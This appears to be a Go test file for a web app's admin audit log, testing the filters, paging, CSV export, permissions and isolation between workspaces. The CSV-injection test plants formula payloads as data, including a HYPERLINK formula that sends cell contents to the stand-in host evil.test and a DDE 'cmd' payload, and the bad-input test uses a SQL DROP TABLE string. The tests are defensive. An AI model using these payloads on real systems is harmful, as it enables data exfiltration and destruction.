package app_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/gatehouse/gatehouse/app/apptest"
	"github.com/gatehouse/gatehouse/db"
)

// auditFixture is acme with an admin signed in (page client and API token),
// alice and bob, marked events at known times, and globex with events of
// its own that acme must never see.
type auditFixture struct {
	env          *apptest.Env
	acme, globex db.Workspace
	admin        *apptest.Client
	token        string
	alice, bob   db.User
	adminUser    db.User
	globexAlice  db.User
}

func day(d int) time.Time { return time.Date(2026, time.March, d, 12, 0, 0, 0, time.UTC) }

func newAuditFixture(t *testing.T) *auditFixture {
	t.Helper()
	env, acme, admin := adminSetup(t)
	ctx := context.Background()
	f := &auditFixture{env: env, acme: acme, admin: admin}
	var err error
	if f.globex, err = env.Store.WorkspaceBySlug(ctx, "globex"); err != nil {
		t.Fatal(err)
	}
	f.alice, _ = env.Store.UserByEmail(ctx, acme.ID, "alice@acme.test")
	f.adminUser, _ = env.Store.UserByEmail(ctx, acme.ID, "admin@acme.test")
	f.globexAlice, _ = env.Store.UserByEmail(ctx, f.globex.ID, "alice@acme.test")
	f.bob = env.User(acme, "bob@acme.test", db.RoleMember, "bob password 1")
	f.token = admin.APILogin("acme", "admin@acme.test", "admin password 1")

	now := env.Clock.Now()
	defer env.Clock.Set(now)
	f.audit(t, day(1), acme.ID, f.alice.ID, f.alice.ID, db.EventSignInFailed, "A")
	f.audit(t, day(1), f.globex.ID, f.globexAlice.ID, f.globexAlice.ID, db.EventSignInFailed, "G1")
	f.audit(t, day(5), acme.ID, f.alice.ID, f.alice.ID, db.EventTOTPEnrolled, "B")
	f.audit(t, day(5), f.globex.ID, f.globexAlice.ID, f.globexAlice.ID, db.EventTOTPEnrolled, "G2")
	f.audit(t, day(10), acme.ID, f.bob.ID, f.bob.ID, db.EventRecoveryCodeUsed, "C")
	// The admin ends alice's session: alice is the subject, the admin the actor.
	f.audit(t, day(10).Add(time.Hour), acme.ID, f.adminUser.ID, f.alice.ID, db.EventSessionEnded, "D")
	f.audit(t, day(11), f.globex.ID, f.globexAlice.ID, f.globexAlice.ID, db.EventSessionEnded, "G3")
	return f
}

func (f *auditFixture) audit(t *testing.T, at time.Time, wsID, actor, subject int64, event, marker string) {
	t.Helper()
	f.env.Clock.Set(at)
	err := f.env.Store.Audit(context.Background(), db.AuditEvent{WorkspaceID: wsID, ActorUserID: actor, SubjectUserID: subject,
		Event: event, IP: "192.0.2.1", UserAgent: "test agent", Details: map[string]any{"n": marker}})
	if err != nil {
		t.Fatal(err)
	}
}

type apiEvent struct {
	ID           int64          `json:"id"`
	Time         string         `json:"time"`
	Event        string         `json:"event"`
	Description  string         `json:"description"`
	ActorID      *int64         `json:"actor_id"`
	ActorEmail   *string        `json:"actor_email"`
	SubjectID    *int64         `json:"subject_id"`
	SubjectEmail *string        `json:"subject_email"`
	IP           string         `json:"ip"`
	Details      map[string]any `json:"details"`
}

type apiAuditPage struct {
	Events     []apiEvent `json:"events"`
	NextCursor *string    `json:"next_cursor"`
}

func (f *auditFixture) api(t *testing.T, query string) apiAuditPage {
	t.Helper()
	res := f.admin.API(http.MethodGet, "/t/acme/api/v1/admin/audit?"+query, f.token, nil)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("GET audit?%s = %d: %s", query, res.StatusCode, res.Body)
	}
	var p apiAuditPage
	if err := json.Unmarshal(res.Body, &p); err != nil {
		t.Fatalf("GET audit?%s: %v", query, err)
	}
	return p
}

func marker(ev apiEvent) string { s, _ := ev.Details["n"].(string); return s }

func involves(ev apiEvent, id int64) bool {
	return (ev.ActorID != nil && *ev.ActorID == id) || (ev.SubjectID != nil && *ev.SubjectID == id)
}

func TestAdminAuditFilters(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	at := func(ev apiEvent) time.Time { tm, _ := time.Parse(time.RFC3339, ev.Time); return tm }
	for _, tc := range []struct {
		name, query string
		want        []string // the marked events, newest first
		each        func(apiEvent) bool
	}{
		{"MemberEmail", "member=alice@acme.test", []string{"D", "B", "A"}, func(ev apiEvent) bool { return involves(ev, f.alice.ID) }},
		{"MemberEmailCase", "member=ALICE@Acme.test", []string{"D", "B", "A"}, func(ev apiEvent) bool { return involves(ev, f.alice.ID) }},
		{"MemberAsActor", "member=admin@acme.test", []string{"D"}, func(ev apiEvent) bool { return involves(ev, f.adminUser.ID) }},
		{"MemberID", "member=" + strconv.FormatInt(f.bob.ID, 10), []string{"C"}, func(ev apiEvent) bool { return involves(ev, f.bob.ID) }},
		{"EventPrefix", "event=mfa.", []string{"C", "B"}, func(ev apiEvent) bool { return strings.HasPrefix(ev.Event, "mfa.") }},
		{"EventExact", "event=mfa.totp.enrolled", []string{"B"}, func(ev apiEvent) bool { return ev.Event == db.EventTOTPEnrolled }},
		{"EventNoDotIsExact", "event=mfa", nil, func(apiEvent) bool { return false }},
		{"SinceUntilDays", "since=2026-03-05&until=2026-03-10", []string{"D", "C", "B"}, func(ev apiEvent) bool {
			return !at(ev).Before(day(5).Add(-12*time.Hour)) && at(ev).Before(day(11).Add(-12*time.Hour))
		}},
		{"Since", "since=2026-03-02", []string{"D", "C", "B"}, func(ev apiEvent) bool { return !at(ev).Before(day(2).Add(-12 * time.Hour)) }},
		{"Until", "until=2026-03-04", []string{"A"}, func(ev apiEvent) bool { return at(ev).Before(day(5).Add(-12 * time.Hour)) }},
		{"RFC3339Second", "since=2026-03-05T12:00:00Z&until=2026-03-05T12:00:00Z", []string{"B"}, func(ev apiEvent) bool { return at(ev).Equal(day(5)) }},
		{"Combined", "member=alice@acme.test&event=mfa.&since=2026-03-01", []string{"B"}, func(ev apiEvent) bool {
			return involves(ev, f.alice.ID) && strings.HasPrefix(ev.Event, "mfa.")
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var got []string
			for _, ev := range f.api(t, tc.query).Events {
				if !tc.each(ev) {
					t.Errorf("%s returned %+v", tc.query, ev)
				}
				if strings.HasPrefix(marker(ev), "G") {
					t.Errorf("%s returned globex's event %+v", tc.query, ev)
				}
				if m := marker(ev); m != "" {
					got = append(got, m)
				}
			}
			if strings.Join(got, ",") != strings.Join(tc.want, ",") {
				t.Errorf("%s = %v, want %v", tc.query, got, tc.want)
			}
		})
	}

	// The page applies the same filters and shows names and emails.
	doc := f.admin.Get("/t/acme/admin/audit?member=alice%40acme.test&event=mfa.").Doc()
	rows := doc.Find("[data-testid=audit] tbody tr")
	if rows.Length() != 1 || !strings.Contains(rows.Text(), "Authenticator app added") || !strings.Contains(rows.Find("td[data-label=Actor]").Text(), "alice@acme.test") {
		t.Fatalf("page with filters shows %d rows: %q", rows.Length(), rows.Text())
	}
	if sel, _ := doc.Find("#event option[selected]").Attr("value"); sel != "mfa." {
		t.Errorf("event select keeps %q, want mfa.", sel)
	}
	if v, _ := doc.Find("#member").Attr("value"); v != "alice@acme.test" {
		t.Errorf("member field keeps %q", v)
	}
}

func TestAdminAuditPage(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	// The console links to it.
	if href, ok := f.admin.Get("/t/acme/admin").Doc().Find(`nav[aria-label="Admin console"] a:contains("Audit log")`).Attr("href"); !ok || href != "/t/acme/admin/audit" {
		t.Fatalf("admin page links to the audit log at %q", href)
	}
	res := f.admin.Get("/t/acme/admin/audit")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("GET audit = %d", res.StatusCode)
	}
	doc := res.Doc()
	body := doc.Find("[data-testid=audit]").Text()
	for _, want := range []string{"Session ended", "admin@acme.test", "alice@acme.test", "Recovery code used", "n: C", "192.0.2.1"} {
		if !strings.Contains(body, want) {
			t.Errorf("audit table lacks %q", want)
		}
	}
	// Emails, not ids: no bare "user #" labels for members of the workspace.
	if strings.Contains(body, "user #") {
		t.Errorf("audit table shows ids: %q", body)
	}
	// Every known event is a choice, by name.
	if n := doc.Find(`#event option[value="mfa.recovery_code.used"]`).Length(); n != 1 {
		t.Errorf("event select has %d options for mfa.recovery_code.used", n)
	}
	// Labels for every filter field.
	for _, id := range []string{"member", "event", "since", "until"} {
		if doc.Find(`label[for="`+id+`"]`).Length() != 1 {
			t.Errorf("no label for #%s", id)
		}
	}
}

// walkPages follows the page's Older links and returns the markers it saw.
func walkPages(t *testing.T, c *apptest.Client, path string) []string {
	t.Helper()
	var seen []string
	for pages := 0; path != ""; pages++ {
		if pages > 20 {
			t.Fatal("paging does not end")
		}
		res := c.Get(path)
		if res.StatusCode != http.StatusOK {
			t.Fatalf("GET %s = %d", path, res.StatusCode)
		}
		doc := res.Doc()
		doc.Find("[data-testid=audit] tbody td[data-label=Details]").Each(func(_ int, s *goquery.Selection) {
			if m := regexp.MustCompile(`n: (P\d+)`).FindStringSubmatch(s.Text()); m != nil {
				seen = append(seen, m[1])
			}
		})
		path, _ = doc.Find(`a[rel=next]`).Attr("href")
	}
	return seen
}

func TestAdminAuditPaging(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	const n = 130
	for i := range n {
		f.audit(t, day(20), f.acme.ID, f.alice.ID, f.bob.ID, db.EventChallengePassed, fmt.Sprintf("P%03d", i))
		if i%3 == 0 { // globex rows in between: acme's ids are not contiguous
			f.audit(t, day(20), f.globex.ID, f.globexAlice.ID, f.globexAlice.ID, db.EventChallengePassed, fmt.Sprintf("G%03d", i))
		}
	}
	check := func(name string, seen []string) {
		t.Helper()
		if len(seen) != n {
			t.Errorf("%s: saw %d events, want %d", name, len(seen), n)
		}
		for i, m := range seen {
			if want := fmt.Sprintf("P%03d", n-1-i); m != want {
				t.Fatalf("%s: event %d is %s, want %s (a gap or a duplicate)", name, i, m, want)
			}
		}
	}
	// Page: 50 a page, new events arriving while paging do not shift pages.
	var seen []string
	path := "/t/acme/admin/audit?event=mfa.challenge.passed"
	for pages := 0; path != ""; pages++ {
		if pages > 10 {
			t.Fatal("paging does not end")
		}
		doc := f.admin.Get(path).Doc()
		doc.Find("[data-testid=audit] tbody td[data-label=Details]").Each(func(_ int, s *goquery.Selection) {
			if m := regexp.MustCompile(`n: ([PG]\d+|NEW)`).FindStringSubmatch(s.Text()); m != nil {
				seen = append(seen, m[1])
			}
		})
		path, _ = doc.Find(`a[rel=next]`).Attr("href")
		if path != "" && !strings.Contains(path, "event=mfa.challenge.passed") {
			t.Fatalf("Older link %q drops the filter", path)
		}
		f.audit(t, day(21), f.acme.ID, f.alice.ID, f.bob.ID, db.EventChallengePassed, "NEW")
	}
	check("page", seen)
	if got := walkPages(t, f.admin, "/t/acme/admin/audit?since=2026-03-20&until=2026-03-20"); len(got) != n {
		t.Errorf("page with dates saw %d, want %d", len(got), n)
	}

	// API: 100 a page with next_cursor.
	seen = nil
	q := "event=mfa.challenge.passed&until=2026-03-20"
	for pages := 0; ; pages++ {
		if pages > 10 {
			t.Fatal("API paging does not end")
		}
		p := f.api(t, q)
		for _, ev := range p.Events {
			seen = append(seen, marker(ev))
		}
		if p.NextCursor == nil {
			break
		}
		q = "event=mfa.challenge.passed&until=2026-03-20&cursor=" + url.QueryEscape(*p.NextCursor)
	}
	check("api", seen)
}

func TestAdminAuditMemberForbidden(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	member := f.env.Client()
	member.Login("acme", "alice@acme.test", pw)
	for _, path := range []string{"/t/acme/admin/audit", "/t/acme/admin/audit.csv", "/t/acme/admin/audit?member=alice%40acme.test"} {
		if res := member.Get(path); res.StatusCode != http.StatusForbidden {
			t.Errorf("member GET %s = %d, want 403", path, res.StatusCode)
		}
	}
	token := member.APILogin("acme", "alice@acme.test", pw)
	if res := member.API(http.MethodGet, "/t/acme/api/v1/admin/audit", token, nil); res.StatusCode != http.StatusForbidden {
		t.Errorf("member API audit = %d, want 403", res.StatusCode)
	}
	req, _ := http.NewRequest(http.MethodGet, member.URL("/t/acme/api/v1/admin/audit"), nil)
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Accept", "text/csv")
	if res := member.Do(req); res.StatusCode != http.StatusForbidden || strings.Contains(string(res.Body), "alice") {
		t.Errorf("member API audit CSV = %d: %s", res.StatusCode, res.Body)
	}
}

func TestAdminAuditCrossWorkspace(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	var n int
	f.env.Store.DB().QueryRow(`SELECT COUNT(*) FROM audit_events WHERE workspace_id = ? AND details LIKE '%"G%'`, f.globex.ID).Scan(&n)
	if n != 3 {
		t.Fatalf("globex has %d marked events, want 3", n)
	}
	noGlobex := func(name, body string) {
		t.Helper()
		if regexp.MustCompile(`"?n"?: ?"?G\d`).MatchString(body) {
			t.Errorf("%s shows globex's events", name)
		}
	}
	noGlobex("page", string(f.admin.Get("/t/acme/admin/audit").Body))
	noGlobex("csv", string(f.admin.Get("/t/acme/admin/audit.csv").Body))
	noGlobex("api", string(f.admin.API(http.MethodGet, "/t/acme/api/v1/admin/audit", f.token, nil).Body))
	// globex's alice has the same email: acme's filter means acme's alice.
	for _, ev := range f.api(t, "member=alice%40acme.test").Events {
		if !involves(ev, f.alice.ID) {
			t.Errorf("alice filter returned %+v", ev)
		}
	}
	// A globex member's id matches nothing in acme.
	if p := f.api(t, "member="+strconv.FormatInt(f.globexAlice.ID, 10)); len(p.Events) != 0 {
		t.Errorf("globex member id in acme = %+v", p.Events)
	}
	// A globex-only email is not a member of acme.
	f.env.User(f.globex, "only@globex.test", db.RoleMember, "only password 1")
	if res := f.admin.API(http.MethodGet, "/t/acme/api/v1/admin/audit?member=only%40globex.test", f.token, nil); res.StatusCode != http.StatusBadRequest {
		t.Errorf("globex email in acme's filter = %d, want 400", res.StatusCode)
	}
	// The acme token is nothing on globex.
	if res := f.admin.API(http.MethodGet, "/t/globex/api/v1/admin/audit", f.token, nil); res.StatusCode != http.StatusUnauthorized {
		t.Errorf("acme token on globex audit = %d, want 401", res.StatusCode)
	}
}

func readCSV(t *testing.T, res *apptest.Response) [][]string {
	t.Helper()
	if res.StatusCode != http.StatusOK {
		t.Fatalf("CSV = %d: %.300s", res.StatusCode, res.Body)
	}
	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("Content-Type = %q", ct)
	}
	wantCD := `attachment; filename="acme-audit-` + time.Now().UTC().Format("2006-01-02") + `.csv"`
	if cd := res.Header.Get("Content-Disposition"); cd != wantCD {
		// The clock is the test's: it starts at the current second.
		if !regexp.MustCompile(`^attachment; filename="acme-audit-\d{4}-\d{2}-\d{2}\.csv"$`).MatchString(cd) {
			t.Errorf("Content-Disposition = %q", cd)
		}
	}
	r := csv.NewReader(strings.NewReader(string(res.Body)))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, res.Body)
	}
	want := []string{"time", "event", "actor_email", "subject_email", "ip", "user_agent", "details"}
	if len(rows) == 0 || strings.Join(rows[0], ",") != strings.Join(want, ",") {
		t.Fatalf("CSV header = %v, want %v", rows, want)
	}
	for i, row := range rows[1:] {
		if _, err := time.Parse(time.RFC3339, row[0]); err != nil {
			t.Errorf("row %d time %q: %v", i, row[0], err)
		}
		if !json.Valid([]byte(row[6])) {
			t.Errorf("row %d details %q is not JSON", i, row[6])
		}
	}
	return rows[1:]
}

func csvGet(c *apptest.Client, path, token string) *apptest.Response {
	req, _ := http.NewRequest(http.MethodGet, c.URL(path), nil)
	req.Header.Set("Accept", "text/csv")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	return c.Do(req)
}

func TestAdminAuditCSV(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	// More rows than one export page, inserted in one statement.
	const bulk = 1234
	_, err := f.env.Store.DB().Exec(`
		WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?)
		INSERT INTO audit_events (workspace_id, actor_user_id, subject_user_id, event, ip, user_agent, details, created_at)
		SELECT ?, ?, ?, 'mfa.challenge.passed', '198.51.100.7', 'bulk', '{"i":' || CAST(i AS TEXT) || '}', ? FROM n`,
		bulk, f.acme.ID, f.bob.ID, f.bob.ID, day(15).Unix())
	if err != nil {
		t.Fatal(err)
	}
	total := 0
	for q := "x=1"; ; {
		p := f.api(t, q)
		total += len(p.Events)
		if p.NextCursor == nil {
			break
		}
		q = "cursor=" + *p.NextCursor
	}
	pageRows := readCSV(t, f.admin.Get("/t/acme/admin/audit.csv"))
	apiRows := readCSV(t, csvGet(f.admin, "/t/acme/api/v1/admin/audit", f.token))
	if len(pageRows) != total || len(apiRows) < total {
		t.Fatalf("CSV has %d (page) and %d (API) rows, JSON %d events", len(pageRows), len(apiRows), total)
	}
	seen := map[string]bool{}
	for _, row := range pageRows {
		if row[1] == "mfa.challenge.passed" && row[5] == "bulk" {
			if seen[row[6]] {
				t.Fatalf("row %v exported twice", row)
			}
			seen[row[6]] = true
			if row[2] != "bob@acme.test" || row[3] != "bob@acme.test" {
				t.Fatalf("bulk row emails = %v", row)
			}
		}
	}
	if len(seen) != bulk {
		t.Fatalf("CSV has %d bulk rows, want %d", len(seen), bulk)
	}

	// The page's export link keeps the filters.
	doc := f.admin.Get("/t/acme/admin/audit?member=alice%40acme.test&event=mfa.&since=2026-03-01&until=2026-03-31").Doc()
	href, _ := doc.Find("[data-testid=export-csv]").Attr("href")
	u, _ := url.Parse(href)
	if u.Path != "/t/acme/admin/audit.csv" || u.Query().Get("member") != "alice@acme.test" || u.Query().Get("event") != "mfa." ||
		u.Query().Get("since") != "2026-03-01" || u.Query().Get("until") != "2026-03-31" {
		t.Fatalf("export link %q does not keep the filters", href)
	}
	rows := readCSV(t, f.admin.Get(href))
	if len(rows) != 1 || rows[0][1] != db.EventTOTPEnrolled || rows[0][2] != "alice@acme.test" || rows[0][0] != "2026-03-05T12:00:00Z" {
		t.Fatalf("filtered export = %v", rows)
	}
	// The API's CSV takes the same filters.
	rows = readCSV(t, csvGet(f.admin, "/t/acme/api/v1/admin/audit?event=mfa.recovery_code.used", f.token))
	if len(rows) != 1 || rows[0][3] != "bob@acme.test" {
		t.Fatalf("API filtered export = %v", rows)
	}
}

// Cells a spreadsheet would run as formulas are neutralised.
func TestAdminAuditCSVInjection(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	evil := `=HYPERLINK("http://evil.test/?"&A1,"click")@x.test`
	u := f.env.User(f.acme, evil, db.RoleMember, "evil password 1")
	for _, ev := range []db.AuditEvent{
		{UserAgent: "@SUM(1+1)", Details: map[string]any{"name": "=cmd|' /C calc'!A0"}},
		{UserAgent: "+1+1", IP: "-2+3"},
		{UserAgent: "\t=1", Details: map[string]any{"x": "\r=1"}},
	} {
		ev.WorkspaceID, ev.ActorUserID, ev.SubjectUserID, ev.Event = f.acme.ID, u.ID, u.ID, "member.renamed"
		if err := f.env.Store.Audit(context.Background(), ev); err != nil {
			t.Fatal(err)
		}
	}
	for name, res := range map[string]*apptest.Response{
		"page": f.admin.Get("/t/acme/admin/audit.csv?event=member."),
		"api":  csvGet(f.admin, "/t/acme/api/v1/admin/audit?event=member.", f.token),
	} {
		rows := readCSV(t, res)
		found := 0
		for _, row := range rows {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %d of %v starts with %q", name, i, row, cell[0])
				}
			}
			if row[1] != "member.renamed" {
				continue
			}
			found++
			if row[2] != "'"+evil || row[3] != "'"+evil {
				t.Errorf("%s: email cells = %q, %q", name, row[2], row[3])
			}
			switch row[5] {
			case "'@SUM(1+1)":
				var d map[string]string
				if json.Unmarshal([]byte(row[6]), &d); d["name"] != "=cmd|' /C calc'!A0" {
					t.Errorf("%s: details %q lost the value", name, row[6])
				}
			case "'+1+1":
				if row[4] != "'-2+3" {
					t.Errorf("%s: ip cell = %q", name, row[4])
				}
			case "'\t=1":
			default:
				t.Errorf("%s: user agent cell = %q", name, row[5])
			}
		}
		if found != 3 {
			t.Errorf("%s: %d injected rows, want 3", name, found)
		}
	}
	// The page shows the email as text.
	if !strings.Contains(f.admin.Get("/t/acme/admin/audit?event=member.").Doc().Find("[data-testid=audit]").Text(), evil) {
		t.Error("the page does not show the email as text")
	}
}

func TestAdminAuditBadInput(t *testing.T) {
	t.Parallel()
	f := newAuditFixture(t)
	huge := strings.Repeat("a", 10000)
	for name, query := range map[string]string{
		"SinceNotADate":   "since=yesterday",
		"SinceBadMonth":   "since=2026-13-01",
		"UntilBadDay":     "until=2026-02-30",
		"UntilBeforeFrom": "since=2026-03-10&until=2026-03-01",
		"SinceHuge":       "since=" + huge,
		"SinceYear0":      "since=0000-01-01",
		"MemberUnknown":   "member=nobody%40acme.test",
		"MemberHuge":      "member=" + huge + "%40acme.test",
		"MemberIDHuge":    "member=99999999999999999999999",
		"MemberNUL":       "member=a%00b",
		"EventBad":        "event=" + url.QueryEscape("'; DROP TABLE audit_events; --"),
		"EventHuge":       "event=" + huge,
		"EventUpper":      "event=MFA.",
		"CursorWord":      "cursor=abc",
		"CursorNegative":  "cursor=-5",
		"CursorZero":      "cursor=0",
		"CursorOverflow":  "cursor=99999999999999999999999",
		"CursorHuge":      "cursor=" + huge,
	} {
		t.Run(name, func(t *testing.T) {
			res := f.admin.API(http.MethodGet, "/t/acme/api/v1/admin/audit?"+query, f.token, nil)
			if j := res.JSON(); res.StatusCode != http.StatusBadRequest || j["error"] != "invalid_filter" || j["message"] == "" {
				t.Errorf("API %s = %d %s, want 400 invalid_filter", name, res.StatusCode, res.Body)
			}
			if res := csvGet(f.admin, "/t/acme/api/v1/admin/audit?"+query, f.token); res.StatusCode != http.StatusBadRequest {
				t.Errorf("API CSV %s = %d, want 400", name, res.StatusCode)
			}
			for _, path := range []string{"/t/acme/admin/audit?", "/t/acme/admin/audit.csv?"} {
				res := f.admin.Get(path + query)
				if res.StatusCode != http.StatusUnprocessableEntity {
					t.Errorf("GET %s%.60s = %d, want 422", path, query, res.StatusCode)
					continue
				}
				doc := res.Doc()
				if msg := strings.TrimSpace(doc.Find(".alert.error").Text() + doc.Find(".field-error").Text()); msg == "" {
					t.Errorf("GET %s%.60s: 422 without a message", path, query)
				}
				if len(res.Body) > 200000 {
					t.Errorf("GET %s%.60s echoes the input: %d bytes", path, query, len(res.Body))
				}
			}
		})
	}
	if strings.Contains(f.env.Logs(), `"status":500`) {
		t.Error("a bad filter caused a 500")
	}
}
